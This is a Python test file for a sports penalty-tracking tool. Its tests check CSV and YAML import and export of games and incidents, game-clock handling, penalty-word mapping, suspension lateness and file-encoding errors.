def test_a_clock_column_gives_a_games_own_clock(tmp_path):
    games = (
        "Game ID,Date,Home,Away,Type,Clock\nG1,2025-10-01,A,B,Regular,Count Up\nG2,2025-10-08,A,B,Regular,\n"
        "G3,2025-10-09,A,B,Regular,sideways\n"
    )
    path = folder(tmp_path, HEADER, games_csv=games)
    assert one_problem(path) == ("games.csv", 4, "column clock: unknown clock 'sideways'; one of remaining, elapsed")
    path = folder(tmp_path, HEADER, name="ok", games_csv=games.replace("sideways", "Countdown"))
    assert [g.get("clock") for g in read_folder(path)["games"]] == ["elapsed", None, "remaining"]


@pytest.mark.parametrize("text", ["Game Ejection", "Ejection", "GE", "Ejected", "GameEjection", "game_ejection"])
def test_the_usual_words_for_a_game_ejection(text):
    assert Mapping().penalties(text) == ["game_ejection"]


def test_team_lines_game_clocks_and_ejections_reach_the_season(tmp_path):
    games = "id,date,home,away,kind,clock\nG1,2025-10-01,A,B,regular,elapsed\nG2,2025-10-08,A,B,regular,\n"
    path = folder(
        tmp_path,
        "game,team,person,period,time,infraction,penalty\n"
        "G1,A,,2,11:40,Too Many Men,Bench Minor\n"
        "G1,B,B1,3,18:30,Roughing,Minor + Game Ejection\n"
        "G2,Bravo,,1,05:00,Delay of Game,Minor\n",
        games_csv=games,
    )
    data, season = import_folder(path)
    g1, g2 = season.games
    assert (g1.clock, g2.clock) == ("elapsed", None)
    assert (g1.incidents[0].person, g1.incidents[0].team, g1.incidents[0].clock) == (None, "A", "elapsed")
    assert g1.incidents[1].penalties == ("minor", "game_ejection") and g2.incidents[0].team == "B"
    assert (g1.incidents[0].where, g1.incidents[0].line) == ("incidents.csv, games[0].incidents[0]", 2)
    # the export writes them back and reading it gives the same season data
    write_folder(season, tmp_path / "out")
    assert read_folder(tmp_path / "out")["games"] == data["games"]
    assert "G1,2025-10-01,,A,B,regular,elapsed" in (tmp_path / "out" / "games.csv").read_text()


def test_a_team_line_for_a_team_not_in_the_game_is_located_in_the_csv(tmp_path):
    teams = TEAMS + "C,Charlie\n"
    path = folder(
        tmp_path, "game,team,person,period,time,infraction,penalty\nG1,C,,2,11:40,Too Many Men,Minor\n", teams_csv=teams
    )
    ((where, line, message),) = problems(path)
    assert (where, line) == ("incidents.csv, games[0].incidents[0].team", 2)
    assert "does not play in this game" in message


def test_a_games_own_clock_decides_lateness_as_in_a_season_file(tmp_path):
    # 08:00 of the 3rd: remaining (default) is 12:00 played, not late; elapsed is late (last 10 minutes)
    lines = HEADER + "G1,A1,3,08:00,Boarding,Major,5\nG1,A1,3,08:00,Boarding,GM,10\n"
    plain = folder(tmp_path, lines, name="plain")
    own = folder(
        tmp_path,
        lines,
        name="own",
        games_csv=GAMES.replace("kind\n", "kind,clock\n").replace("regular\nG2", "regular,elapsed\nG2"),
    )
    games = {
        name: [s["games"] for s in evaluate(load_folder(p)).to_dict()["suspensions"] if s["person"] == "A1"]
        for name, p in (("plain", plain), ("own", own))
    }
    assert games["plain"] != games["own"]


def test_readings_and_export_take_a_folder_with_its_mapping(tmp_path):
    res = _cli("readings", EXAMPLE, "--mapping", WORDS, "--format", "json")
    assert res.exit_code == 0, res.stderr
    assert _cli("readings", EXAMPLE, "--format", "json").exit_code == 2
    res = _cli("export", EXAMPLE, "--mapping", WORDS, "-o", tmp_path / "out")
    assert res.exit_code == 0, res.stderr
    assert (
        evaluate(load_folder(tmp_path / "out")).to_dict()["suspensions"]
        == evaluate(EXAMPLE / "season.yaml").to_dict()["suspensions"]
    )


def test_a_csv_mapping_file_is_read_in_the_folders_encoding_and_yaml_numbers_are_text(tmp_path):
    path = folder(
        tmp_path,
        (
            "game,team,person,period,time,infraction,penalty\n"
            "G1,A,Pénalité,1,10:00,Trip,Minor\nG1,B,10,1,11:00,Trip,Minor\n"
        ).encode("cp1252"),
    )
    words = tmp_path / "words.csv"
    words.write_bytes("table,text,code\npeople,Pénalité,A1\npeople,10,B1\n".encode("cp1252"))
    assert [i["person"] for i in incidents_of(path, mapping=words, encoding="cp1252")] == ["A1", "B1"]
    yaml_words = tmp_path / "words.yaml"
    yaml_words.write_text("people:\n  10: B1\n", encoding="utf-8")
    with pytest.raises(InputError) as exc:
        Mapping.load(words)
    assert "--encoding cp1252" in exc.value.problems[0].message and exc.value.problems[0].line == 2
    assert Mapping.load(words, "cp1252").identity("people", "Pénalité") == "A1"
    assert Mapping.load(yaml_words).identity("people", "10") == "B1"
